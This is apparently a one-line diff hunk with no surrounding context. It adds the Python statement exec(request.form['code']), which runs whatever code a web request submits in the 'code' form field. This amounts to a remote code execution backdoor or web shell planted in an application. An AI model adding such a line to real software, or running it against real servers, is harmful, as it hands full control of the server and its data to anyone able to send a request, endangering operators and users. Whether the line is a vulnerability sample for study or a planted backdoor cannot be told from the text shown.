@@ -1,0 +1,1 @@
+exec(request.form["code"])
